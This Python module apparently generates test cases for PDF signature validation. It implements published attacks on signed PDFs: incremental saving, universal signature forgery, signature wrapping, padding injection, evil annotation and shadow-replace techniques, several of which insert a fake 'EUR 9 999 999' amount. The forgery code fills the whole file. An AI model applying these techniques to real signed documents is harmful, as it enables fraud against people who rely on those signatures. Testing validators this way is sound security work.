"""Ways to change a signed file, named as in the literature on attacks against PDF signatures."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

_untyped: Any = generic
FAKE_PAGE = b"BT /%s 24 Tf 60 700 Td (EUR 9 999 999) Tj ET"


def flipped(content: bytes) -> bytes:
    """One letter of the metadata, which the first signature covers."""
    place = content.index(b"<pdf:Producer>") + len(b"<pdf:Producer>")
    return content[:place] + bytes([content[place] ^ 1]) + content[place + 1 :]


def incremented(content: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(content))
    change(writer)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def rewritten(content: bytes) -> bytes:
    """What a viewer does that saves the file anew."""
    with pikepdf.open(io.BytesIO(content)) as document:
        target = io.BytesIO()
        document.save(target)
    return target.getvalue()


def _page_object(content: bytes) -> tuple[int, int, int, bytes, bytes]:
    with pikepdf.open(io.BytesIO(content)) as document:
        stream = document.pages[0].obj.Contents
        stream = stream[0] if isinstance(stream, pikepdf.Array) else stream
        font = next(iter(document.pages[0].obj.Resources.Font.keys())).lstrip("/").encode()
        previous = re.findall(rb"startxref\s+(\d+)", content)[-1]
        return stream.objgen[0], int(document.trailer.Size), document.Root.objgen[0], font, previous


def isa(content: bytes, variant: int) -> bytes:
    """Incremental saving attack: another page content behind the end, in ever less well-formed updates."""
    number, size, root, font, previous = _page_object(content)
    page = FAKE_PAGE % font
    body = b"\n%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (number, len(page), page)
    start, end = len(content) + 1, len(content) + len(body)
    tails = {
        1: b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size %d/Root %d 0 R/Prev %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (number, start, size, root, previous, end),
        2: b"",
        3: b"xref\ntrailer\n<</Root %d 0 R>>\nstartxref\n%d\n%%no offset\n" % (root, len(content) + 5),
        4: b"trailer\n<</Root %d 0 R/Size %d>>\n" % (root, size),
        5: b"startxref\n%s\n%%%%EOF\n" % previous,
        6: b"startxref\n%d\n%%%%EOF\n" % (len(content) + 3),
        7: b"xref\n0 0\ntrailer\n<</Size %d/Root %d 0 R/Prev %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (size, root, previous, end),
    }
    return content + body + tails[variant]


def usf(content: bytes, variant: int) -> bytes:
    """Universal signature forgery: the last signature's range or value is taken away or made meaningless."""
    ranges = list(re.finditer(rb"/ByteRange *\[[^\]]*\]", content))[-1]
    values = list(re.finditer(rb"/Contents *<[0-9a-fA-F]+>", content))[-1]
    match, new = [
        (values, b"/Xontents <00>"),
        (values, b"/Contents null"),
        (values, b"/Contents <>"),
        (values, b"/Contents <00>"),
        (ranges, b"/XyteRange [0 1 2 3]"),
        (ranges, b"/ByteRange null"),
        (ranges, b"/ByteRange [0 0 0 0]"),
        (ranges, b"/ByteRange [0 -1 -1 -1]"),
        (ranges, b"/ByteRange [0 4294967296 1 1]"),
    ][variant]
    room = match.end() - match.start()
    return content[: match.start()] + new.ljust(room)[:room] + content[match.end() :]


def swa(content: bytes) -> bytes:
    """Signature wrapping: the second range moves back, something goes in between."""
    match = list(re.finditer(rb"/ByteRange *\[([^\]]*)\]", content))[-1]
    first, length, second, rest = (int(number) for number in match.group(1).split())
    injected = b"\n999 0 obj\n<</Fake (object)>>\nendobj\n"
    ranges = b"/ByteRange [%d %d %d %d]" % (first, length, second + len(injected), rest)
    room = match.end() - match.start()
    padded = ranges.ljust(room)
    return content[: match.start()] + padded + content[match.end() : second] + injected + content[second:]


def padded(content: bytes) -> bytes:
    """Something hidden in the zeros behind the signature value."""
    match = list(re.finditer(rb"/Contents *<[0-9a-fA-F]+>", content))[-1]
    place = match.end() - 41
    return content[:place] + b"48 49".replace(b" ", b"").hex().encode() + content[place + 8 :]


def free_text(writer: IncrementalPdfFileWriter) -> None:
    """Evil annotation attack: a note that covers the text."""
    page = writer.root["/Pages"]["/Kids"][0]
    drawing = generic.StreamObject(
        _dictionary(Type=pdf_name("/XObject"), Subtype=pdf_name("/Form"), BBox=_box(0, 0, 400, 60)),
        stream_data=b"1 1 1 rg 0 0 400 60 re f",
    )
    note = _dictionary(
        Type=pdf_name("/Annot"),
        Subtype=pdf_name("/FreeText"),
        F=_untyped.NumberObject(4),
        Rect=_box(80, 650, 480, 710),
        Contents=generic.pdf_string("EUR 9 999 999"),
        AP=_dictionary(N=writer.add_object(drawing)),
    )
    writer.register_annotation(page.container_ref, writer.add_object(note))


def shared_signature(writer: IncrementalPdfFileWriter) -> None:
    """A further field that shows the value of the first signature."""
    fields = writer.root["/AcroForm"]["/Fields"]
    first = fields[0].get_object() if hasattr(fields[0], "get_object") else fields[0]
    field = _dictionary(
        FT=pdf_name("/Sig"),
        T=generic.pdf_string("sig_third"),
        V=first.raw_get("/V"),
        Type=pdf_name("/Annot"),
        Subtype=pdf_name("/Widget"),
        Rect=_box(0, 0, 0, 0),
        F=_untyped.NumberObject(132),
    )
    fields.append(writer.add_object(field))
    writer.update_container(fields)


def with_text_field(content: bytes, name: str = "Amount") -> bytes:
    """A text field put in before anyone signs: its appearance may change afterwards."""
    with pikepdf.open(io.BytesIO(content)) as document:
        page = document.pages[0].obj
        blank = document.make_stream(
            b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=pikepdf.Array([0, 0, 300, 30])
        )
        field = document.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Tx,
                T=pikepdf.String(name),
                V=pikepdf.String(""),
                F=4,
                Rect=pikepdf.Array([80, 650, 380, 680]),
                P=page,
                AP=pikepdf.Dictionary(N=blank),
            )
        )
        page.Annots = pikepdf.Array([*page.get("/Annots", []), field])
        document.Root.AcroForm.Fields.append(field)
        target = io.BytesIO()
        document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return target.getvalue()


def fill_text_field(writer: IncrementalPdfFileWriter) -> None:
    """Shadow replace: the field shows a number after signing."""
    for reference in writer.root["/AcroForm"]["/Fields"]:
        field = reference.get_object()
        if field.get("/T") == "Amount":
            drawing = generic.StreamObject(
                _dictionary(Type=pdf_name("/XObject"), Subtype=pdf_name("/Form"), BBox=_box(0, 0, 300, 30)),
                stream_data=b"1 1 1 rg 0 0 300 30 re f",
            )
            field["/V"] = generic.pdf_string("EUR 9 999 999")
            field["/AP"] = _dictionary(N=writer.add_object(drawing))
            writer.update_container(field)


def _dictionary(**entries: Any) -> Any:
    return _untyped.DictionaryObject({pdf_name(f"/{name}"): value for name, value in entries.items()})


def _box(*edges: int) -> Any:
    return generic.ArrayObject([_untyped.NumberObject(edge) for edge in edges])
